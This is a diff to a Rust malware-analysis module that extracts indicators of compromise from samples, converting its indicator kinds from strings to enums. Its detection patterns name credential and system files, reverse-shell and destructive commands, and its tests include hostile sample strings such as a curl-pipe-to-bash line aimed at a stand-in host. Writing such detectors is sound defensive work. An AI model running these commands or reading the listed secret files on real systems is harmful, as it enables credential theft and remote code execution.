@@ -17,6 +17,8 @@ use schemars::JsonSchema;
 use serde::Serialize;
 
 use super::{
+    encoding::Encoding,
+    kinds::{IocKind, Seen},
     limits::{MAX_IOCS, MAX_VALUE},
     near::{self, Pair},
     wallet,
@@ -24,10 +26,10 @@ use super::{
 
 /// Where a string stands, and how it was decoded.
 #[derive(Debug, Clone, Copy)]
-pub(super) struct Found<'a> {
+pub(super) struct Found {
     pub(super) offset: u64,
     pub(super) address: Option<u64>,
-    pub(super) encoding: &'a str,
+    pub(super) encoding: Encoding,
 }
 
 /// Patterns that there are.
@@ -39,9 +41,8 @@ const NEAR: u64 = 1024;
 #[derive(Debug, Clone, Serialize, JsonSchema)]
 #[non_exhaustive]
 pub struct Ioc {
-    /// `url`, `onion`, `domain` (with a port), `ipv4`, `ipv6`, `email`, `wallet`, `path`, `credential`,
-    /// `pool_protocol`, `command`, `webhook`, `embedded_file`.
-    pub kind: String,
+    /// What it names.
+    pub kind: IocKind,
     /// The indicator itself.
     pub value: String,
     /// Byte offset of its string in the file.
@@ -49,15 +50,14 @@ pub struct Ioc {
     /// Address in memory.
     pub address: Option<u64>,
     /// How its string was decoded.
-    pub encoding: String,
-    /// Where it was seen: `data`, `custom section`, `import name`, `export name`; or `run`, if the sample
-    /// made it while it ran and gave it to the host, and it stands nowhere in the file (`offset` is 0 then).
-    pub seen: String,
+    pub encoding: Encoding,
+    /// Where it was seen. `offset` is 0 for what the sample made while it ran.
+    pub seen: Seen,
 }
 
 /// What an indicator looks like.
 struct Pattern {
-    kind: &'static str,
+    kind: IocKind,
     /// Only a text with one of these, in any case, can match.
     hints: &'static [&'static str],
     look: Look,
@@ -90,11 +90,11 @@ enum Finder {
 }
 
 impl Pattern {
-    const fn new(kind: &'static str, hints: &'static [&'static str], pattern: &'static str) -> Self {
+    const fn new(kind: IocKind, hints: &'static [&'static str], pattern: &'static str) -> Self {
         Self::with(kind, hints, Look::Regex(pattern))
     }
 
-    const fn with(kind: &'static str, hints: &'static [&'static str], look: Look) -> Self {
+    const fn with(kind: IocKind, hints: &'static [&'static str], look: Look) -> Self {
         Self { kind, hints, look, compiled: OnceLock::new() }
     }
 
@@ -170,26 +170,26 @@ fn hinted(text: &str) -> [bool; KINDS] {
 /// Patterns in capitals and small letters alike begin with `(?i)`.
 static PATTERNS: [Pattern; KINDS] = [
     Pattern::new(
-        "url",
+        IocKind::Url,
         &["://"],
         r"(?:https?|wss?|ftp|tcp)://[A-Za-z0-9\[][A-Za-z0-9._~:/?#\[\]@!$&'()*+,;=%-]{3,300}",
     ),
-    Pattern::new("onion", &[".onion"], r"\b(?:[a-z2-7]{56}|[a-z2-7]{16})\.onion\b"),
-    Pattern::with("domain", &[":1", ":2", ":3", ":4", ":5", ":6", ":7", ":8", ":9"], Look::Domain),
-    Pattern::with("email", &["@"], Look::Email),
+    Pattern::new(IocKind::Onion, &[".onion"], r"\b(?:[a-z2-7]{56}|[a-z2-7]{16})\.onion\b"),
+    Pattern::with(IocKind::Domain, &[":1", ":2", ":3", ":4", ":5", ":6", ":7", ":8", ":9"], Look::Domain),
+    Pattern::with(IocKind::Email, &["@"], Look::Email),
     Pattern::new(
-        "path",
+        IocKind::Path,
         &["/etc/"],
         r"/etc/(?:passwd|shadow|sudoers|gshadow|crontab|ld\.so\.preload|hosts)\b",
     ),
-    Pattern::new("path", &[".ssh/"], r"\.ssh/(?:id_[a-z0-9]+|authorized_keys|known_hosts|config)\b"),
+    Pattern::new(IocKind::Path, &[".ssh/"], r"\.ssh/(?:id_[a-z0-9]+|authorized_keys|known_hosts|config)\b"),
     Pattern::new(
-        "path",
+        IocKind::Path,
         &["id_", "authorized_keys", "wallet.dat", "key4.db", "logins.json", "local state", "login data"],
         r"\b(?:id_(?:rsa|dsa|ecdsa|ed25519)|authorized_keys|wallet\.dat|key4\.db|logins\.json|Local State|Login Data)\b",
     ),
     Pattern::new(
-        "path",
+        IocKind::Path,
         &[
             ".aws/",
             ".docker/",
@@ -209,43 +209,55 @@ static PATTERNS: [Pattern; KINDS] = [
         r"\.(?:aws/credentials|docker/config\.json|kube/config|git-credentials|netrc|npmrc|pgpass|bash_history|gnupg|electrum|bitcoin|ethereum|monero|mozilla/firefox)\b",
     ),
     Pattern::new(
-        "path",
+        IocKind::Path,
         &["/proc/", "docker.sock", "/dev/tcp/"],
         r"/proc/(?:self|[0-9]+|1)/(?:environ|maps|mem|cmdline|root)\b|/proc/net/(?:tcp|route|arp)\b|/var/run/docker\.sock\b|/dev/tcp/",
     ),
-    Pattern::new("path", &["/bin/"], r"/bin/(?:ba|z|da|k|c)?sh\b"),
-    Pattern::new("path", &["c:\\"], r"(?i)\bC:\\+(?:Windows|Users|ProgramData)\\+[\w.\\-]{2,120}"),
-    Pattern::new("path", &["lsass", "ntdll", "kernel32"], r"(?i)\b(?:lsass|ntdll|kernel32)\.(?:exe|dll)\b"),
-    Pattern::new("credential", &["akia", "asia"], r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b"),
+    Pattern::new(IocKind::Path, &["/bin/"], r"/bin/(?:ba|z|da|k|c)?sh\b"),
+    Pattern::new(IocKind::Path, &["c:\\"], r"(?i)\bC:\\+(?:Windows|Users|ProgramData)\\+[\w.\\-]{2,120}"),
     Pattern::new(
-        "credential",
+        IocKind::Path,
+        &["lsass", "ntdll", "kernel32"],
+        r"(?i)\b(?:lsass|ntdll|kernel32)\.(?:exe|dll)\b",
+    ),
+    Pattern::new(IocKind::Credential, &["akia", "asia"], r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b"),
+    Pattern::new(
+        IocKind::Credential,
         &["ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_", "glpat-"],
         r"\b(?:gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{22,82}|glpat-[A-Za-z0-9_-]{20})\b",
     ),
-    Pattern::new("credential", &["xox"], r"\bxox[abprs]-[A-Za-z0-9-]{10,120}\b"),
-    Pattern::new("credential", &["sk_live_"], r"\bsk_live_[0-9A-Za-z]{24,120}\b"),
-    Pattern::new("credential", &["aiza"], r"\bAIza[0-9A-Za-z_-]{18}[0-9A-Za-z_-]*"),
-    Pattern::new("credential", &["-----begin"], r"-----BEGIN (?:[A-Z]{2,10} )?PRIVATE KEY-----"),
+    Pattern::new(IocKind::Credential, &["xox"], r"\bxox[abprs]-[A-Za-z0-9-]{10,120}\b"),
+    Pattern::new(IocKind::Credential, &["sk_live_"], r"\bsk_live_[0-9A-Za-z]{24,120}\b"),
+    Pattern::new(IocKind::Credential, &["aiza"], r"\bAIza[0-9A-Za-z_-]{18}[0-9A-Za-z_-]*"),
+    Pattern::new(IocKind::Credential, &["-----begin"], r"-----BEGIN (?:[A-Z]{2,10} )?PRIVATE KEY-----"),
     Pattern::new(
-        "credential",
+        IocKind::Credential,
         &["eyj"],
         r"\beyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}",
     ),
-    Pattern::new("credential", &["aws_"], r"\bAWS_(?:SECRET_ACCESS_KEY|ACCESS_KEY_ID|SESSION_TOKEN)\b"),
     Pattern::new(
-        "pool_protocol",
+        IocKind::Credential,
+        &["aws_"],
+        r"\bAWS_(?:SECRET_ACCESS_KEY|ACCESS_KEY_ID|SESSION_TOKEN)\b",
+    ),
+    Pattern::new(
+        IocKind::PoolProtocol,
         &["stratum+"],
         r"\bstratum\+(?:tcp|ssl|tls|udp)://[!-~]{3,200}|\bstratum\+(?:tcp|ssl|tls)\b",
     ),
     Pattern::new(
-        "pool_protocol",
+        IocKind::PoolProtocol,
         &["mining."],
         r"\bmining\.(?:subscribe|authorize|submit|notify|set_difficulty|extranonce\.subscribe)\b",
     ),
-    Pattern::new("pool_protocol", &["\"method\""], r#""method"\s*:\s*"(?:login|submit|getjob|keepalived)""#),
-    Pattern::new("command", &["cmd"], r"(?i)\bcmd(?:\.exe)?\s+/[ck]\b[ -~]{0,120}"),
+    Pattern::new(
+        IocKind::PoolProtocol,
+        &["\"method\""],
+        r#""method"\s*:\s*"(?:login|submit|getjob|keepalived)""#,
+    ),
+    Pattern::new(IocKind::Command, &["cmd"], r"(?i)\bcmd(?:\.exe)?\s+/[ck]\b[ -~]{0,120}"),
     Pattern::with(
-        "command",
+        IocKind::Command,
         &["powershell"],
         Look::Pair {
             head: r"(?i)\bpowershell(?:\.exe)?\b",
@@ -256,12 +268,12 @@ static PATTERNS: [Pattern; KINDS] = [
         },
     ),
     Pattern::new(
-        "command",
+        IocKind::Command,
         &["/bin/", "bash -i"],
         r"/bin/(?:ba|z|da)?sh\s+-[cil][ -~]{0,120}|\bbash -i\b[ -~]{0,80}",
     ),
     Pattern::with(
-        "command",
+        IocKind::Command,
         &["curl ", "wget "],
         Look::Pair {
             head: r"\b(?:curl|wget)\s",
@@ -272,17 +284,17 @@ static PATTERNS: [Pattern; KINDS] = [
         },
     ),
     Pattern::new(
-        "command",
+        IocKind::Command,
         &["rm -r", "chmod ", "nc -"],
         r"\brm -rf? (?:/|~|\*)[ -~]{0,60}|\bchmod (?:\+x|[0-7]{3,4}) [ -~]{1,80}|\bnc -[a-z]*e [ -~]{1,40}",
     ),
     Pattern::new(
-        "command",
+        IocKind::Command,
         &["delete shadows", "delete catalog", "bcdedit /set", "schtasks /create", "-urlcache"],
         r"(?i)\bvssadmin(?:\.exe)? delete shadows[ -~]{0,40}|\bwbadmin delete catalog\b|\bbcdedit /set\b[ -~]{0,60}|\bschtasks /create\b[ -~]{0,120}|\bcertutil(?:\.exe)? -urlcache\b[ -~]{0,120}",
     ),
     Pattern::new(
-        "webhook",
+        IocKind::Webhook,
         &["/api/webhooks/", "api.telegram.org", "hooks.slack.com"],
         r"\bdiscord(?:app)?\.com/api/webhooks/[!-~]{1,120}|\bapi\.telegram\.org/bot[!-~]{0,120}|\bhooks\.slack\.com/services/[!-~]{1,120}",
     ),
@@ -295,9 +307,9 @@ const RESOLVERS: &[[u8; 4]] = &[[1, 1, 1, 1], [1, 0, 0, 1], [8, 8, 8, 8], [8, 8,
 #[derive(Default)]
 pub(super) struct Iocs {
     kept: Vec<Ioc>,
-    seen: HashSet<(&'static str, String)>,
-    /// Where what comes next is seen; empty for `data`.
-    pub(super) place: &'static str,
+    seen: HashSet<(IocKind, String)>,
+    /// Where what comes next is seen.
+    pub(super) place: Seen,
     cut: u64,
     /// Where the last `job_id` and the last `nonce` stood.
     job: Option<u64>,
@@ -306,47 +318,47 @@ pub(super) struct Iocs {
 
 impl Iocs {
     /// Collects the indicators in a string.
-    pub(super) fn search(&mut self, text: &str, found: Found<'_>) {
+    pub(super) fn search(&mut self, text: &str, found: Found) {
         let hinted = hinted(text);
         for (pattern, _) in PATTERNS.iter().zip(hinted).filter(|(_, is_hinted)| *is_hinted) {
             for hit in pattern.finder().map(|finder| finder.find(text)).into_iter().flatten() {
                 let value = trim(pattern.kind, text.get(hit.clone()).unwrap_or_default());
-                if pattern.kind != "url" || has_host(value) {
+                if pattern.kind != IocKind::Url || has_host(value) {
                     self.push(pattern.kind, value, hit.start, found);
                 }
             }
         }
         for (start, address) in runs(text, |letter| letter.is_ascii_hexdigit() || letter == ':') {
             if is_ipv6(text, start, start + address.len()) {
-                self.push("ipv6", address, start, found);
+                self.push(IocKind::Ipv6, address, start, found);
             }
         }
         for (start, address) in runs(text, |letter| letter.is_ascii_digit() || letter == '.') {
             if is_ipv4(text, start, start + address.len()) {
-                self.push("ipv4", address, start, found);
+                self.push(IocKind::Ipv4, address, start, found);
             }
         }
         for (position, word) in wallet::find(text) {
-            self.push("wallet", word, position, found);
+            self.push(IocKind::Wallet, word, position, found);
         }
         self.job(text, found);
     }
 
     /// A file of another format inside of this one.
-    pub(super) fn embedded(&mut self, kind: &str, found: Found<'_>) {
-        self.push("embedded_file", kind, 0, found);
+    pub(super) fn embedded(&mut self, kind: &str, found: Found) {
+        self.push(IocKind::EmbeddedFile, kind, 0, found);
     }
 
     /// All by place, and how many were cut.
     pub(super) fn finish(mut self) -> (Vec<Ioc>, u64) {
         self.kept.sort_by(|a, b| {
-            (a.offset, &a.kind, &a.value, &a.encoding).cmp(&(b.offset, &b.kind, &b.value, &b.encoding))
+            (a.offset, a.kind, &a.value, a.encoding).cmp(&(b.offset, b.kind, &b.value, b.encoding))
         });
         (self.kept, self.cut)
     }
 
     /// Each indicator once, at its first place.
-    fn push(&mut self, kind: &'static str, value: &str, position: usize, found: Found<'_>) {
+    fn push(&mut self, kind: IocKind, value: &str, position: usize, found: Found) {
         if self.kept.len() >= MAX_IOCS {
             self.cut += 1;
             return;
@@ -355,49 +367,51 @@ impl Iocs {
             return;
         }
         // Of a decoded string, the place is that of its beginning: its characters are not the file's bytes.
-        let position = if found.encoding == "plain" { position as u64 } else { 0 };
+        let position = if found.encoding == Encoding::Plain { position as u64 } else { 0 };
         self.kept.push(Ioc {
-            kind: kind.to_owned(),
+            kind,
             value: value.to_owned(),
             offset: found.offset + position,
             address: found.address.map(|address| address.saturating_add(position)),
-            encoding: found.encoding.to_owned(),
-            seen: if self.place.is_empty() { "data" } else { self.place }.to_owned(),
+            encoding: found.encoding,
+            seen: self.place,
         });
     }
 
     /// A job of a mining pool names its number and has a nonce.
-    fn job(&mut self, text: &str, found: Found<'_>) {
+    fn job(&mut self, text: &str, found: Found) {
         let place = |word: &str| text.find(word).map(|position| found.offset + position as u64);
         self.job = place("job_id").or(self.job);
         self.nonce = place("nonce").or(self.nonce);
         if let (Some(job), Some(nonce)) = (self.job, self.nonce)
             && job.abs_diff(nonce) <= NEAR
         {
-            self.push("pool_protocol", "job_id, nonce", 0, found);
+            self.push(IocKind::PoolProtocol, "job_id, nonce", 0, found);
         }
     }
 }
 
 /// Indicators in texts that a sample gave to the host while it ran, without those in `known`.
 pub(crate) fn of_run<'t>(texts: impl Iterator<Item = &'t str>, known: &[Ioc]) -> Vec<Ioc> {
-    let mut iocs = Iocs { place: "run", ..Iocs::default() };
+    let mut iocs = Iocs { place: Seen::Run, ..Iocs::default() };
     for text in texts {
         // One whose halves come from different calls is none.
         (iocs.job, iocs.nonce) = (None, None);
-        iocs.search(text, Found { offset: 0, address: None, encoding: "plain" });
+        iocs.search(text, Found { offset: 0, address: None, encoding: Encoding::Plain });
     }
-    let known: HashSet<(&str, &str)> = known.iter().map(|ioc| (&*ioc.kind, &*ioc.value)).collect();
-    let is_new = |ioc: &Ioc| !known.contains(&(&*ioc.kind, &*ioc.value));
+    let known: HashSet<(IocKind, &str)> = known.iter().map(|ioc| (ioc.kind, &*ioc.value)).collect();
+    let is_new = |ioc: &Ioc| !known.contains(&(ioc.kind, &*ioc.value));
     let iocs = iocs.finish().0.into_iter().filter(is_new);
     iocs.map(|ioc| Ioc { offset: 0, ..ioc }).collect()
 }
 
 /// Takes off what ends a sentence and not a link.
-fn trim<'t>(kind: &str, value: &'t str) -> &'t str {
+fn trim<'t>(kind: IocKind, value: &'t str) -> &'t str {
     match kind {
         _ if value.len() > MAX_VALUE => value.get(..MAX_VALUE).unwrap_or(value),
-        "url" | "webhook" => value.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'', ')', ']', '&', '=']),
+        IocKind::Url | IocKind::Webhook => {
+            value.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'', ')', ']', '&', '='])
+        }
         _ => value.trim_end(),
     }
 }
@@ -477,9 +491,9 @@ fn is_ipv6(text: &str, start: usize, end: usize) -> bool {
 mod tests {
     use super::*;
 
-    fn iocs(text: &str) -> Vec<(String, String)> {
+    fn iocs(text: &str) -> Vec<(IocKind, String)> {
         let mut iocs = Iocs::default();
-        iocs.search(text, Found { offset: 0, address: None, encoding: "plain" });
+        iocs.search(text, Found { offset: 0, address: None, encoding: Encoding::Plain });
         iocs.finish().0.into_iter().map(|ioc| (ioc.kind, ioc.value)).collect()
     }
 
@@ -496,29 +510,29 @@ mod tests {
     #[test]
     fn indicators_have_their_kind() {
         for (text, kind, value) in [
-            ("see https://evil.example/a?b=c.", "url", "https://evil.example/a?b=c"),
-            ("wss://pool.evil.example:8892/proxy", "url", "wss://pool.evil.example:8892/proxy"),
-            ("at expyuzz4wqqyqhjn.onion now", "onion", "expyuzz4wqqyqhjn.onion"),
-            ("xmr.pool.example.com:3333", "domain", "xmr.pool.example.com:3333"),
-            ("write to a.b+c@mail.example.org!", "email", "a.b+c@mail.example.org"),
-            ("open /etc/shadow", "path", "/etc/shadow"),
-            ("/home/u/.ssh/id_ed25519", "path", ".ssh/id_ed25519"),
-            ("key AKIAIOSFODNN7EXAMPLE", "credential", "AKIAIOSFODNN7EXAMPLE"),
-            ("-----BEGIN RSA PRIVATE KEY-----", "credential", "-----BEGIN RSA PRIVATE KEY-----"),
-            ("stratum+tcp://pool.example:4444", "pool_protocol", "stratum+tcp://pool.example:4444"),
-            (r#"{"id":1,"method": "login","params":{}}"#, "pool_protocol", r#""method": "login""#),
-            (r#"{"job_id":"%s","nonce":"%s"}"#, "pool_protocol", "job_id, nonce"),
-            ("cmd.exe /c whoami", "command", "cmd.exe /c whoami"),
-            ("powershell -nop -enc SQBFAFgA", "command", "powershell -nop -enc SQBFAFgA"),
-            ("/bin/sh -c id", "command", "/bin/sh -c id"),
-            ("curl http://a.example/x | bash", "command", "curl http://a.example/x | bash"),
-            ("connect 203.0.113.7:4444", "ipv4", "203.0.113.7"),
-            ("dns 8.8.8.8", "ipv4", "8.8.8.8"),
-            ("http://5.6.7.8/x", "ipv4", "5.6.7.8"),
-            ("[2001:db8::8a2e:370:7334]", "ipv6", "2001:db8::8a2e:370:7334"),
-            ("https://discord.com/api/webhooks/1/abc", "webhook", "discord.com/api/webhooks/1/abc"),
+            ("see https://evil.example/a?b=c.", IocKind::Url, "https://evil.example/a?b=c"),
+            ("wss://pool.evil.example:8892/proxy", IocKind::Url, "wss://pool.evil.example:8892/proxy"),
+            ("at expyuzz4wqqyqhjn.onion now", IocKind::Onion, "expyuzz4wqqyqhjn.onion"),
+            ("xmr.pool.example.com:3333", IocKind::Domain, "xmr.pool.example.com:3333"),
+            ("write to a.b+c@mail.example.org!", IocKind::Email, "a.b+c@mail.example.org"),
+            ("open /etc/shadow", IocKind::Path, "/etc/shadow"),
+            ("/home/u/.ssh/id_ed25519", IocKind::Path, ".ssh/id_ed25519"),
+            ("key AKIAIOSFODNN7EXAMPLE", IocKind::Credential, "AKIAIOSFODNN7EXAMPLE"),
+            ("-----BEGIN RSA PRIVATE KEY-----", IocKind::Credential, "-----BEGIN RSA PRIVATE KEY-----"),
+            ("stratum+tcp://pool.example:4444", IocKind::PoolProtocol, "stratum+tcp://pool.example:4444"),
+            (r#"{"id":1,"method": "login","params":{}}"#, IocKind::PoolProtocol, r#""method": "login""#),
+            (r#"{"job_id":"%s","nonce":"%s"}"#, IocKind::PoolProtocol, "job_id, nonce"),
+            ("cmd.exe /c whoami", IocKind::Command, "cmd.exe /c whoami"),
+            ("powershell -nop -enc SQBFAFgA", IocKind::Command, "powershell -nop -enc SQBFAFgA"),
+            ("/bin/sh -c id", IocKind::Command, "/bin/sh -c id"),
+            ("curl http://a.example/x | bash", IocKind::Command, "curl http://a.example/x | bash"),
+            ("connect 203.0.113.7:4444", IocKind::Ipv4, "203.0.113.7"),
+            ("dns 8.8.8.8", IocKind::Ipv4, "8.8.8.8"),
+            ("http://5.6.7.8/x", IocKind::Ipv4, "5.6.7.8"),
+            ("[2001:db8::8a2e:370:7334]", IocKind::Ipv6, "2001:db8::8a2e:370:7334"),
+            ("https://discord.com/api/webhooks/1/abc", IocKind::Webhook, "discord.com/api/webhooks/1/abc"),
         ] {
-            assert!(iocs(text).contains(&(kind.to_owned(), value.to_owned())), "{text}: {:?}", iocs(text));
+            assert!(iocs(text).contains(&(kind, value.to_owned())), "{text}: {:?}", iocs(text));
         }
     }
 
@@ -578,7 +592,7 @@ mod tests {
         for offset in [100, 200] {
             iocs.search(
                 "go http://a.example/b",
-                Found { offset, address: Some(offset + 1000), encoding: "plain" },
+                Found { offset, address: Some(offset + 1000), encoding: Encoding::Plain },
             );
         }
         let (iocs, cut) = iocs.finish();
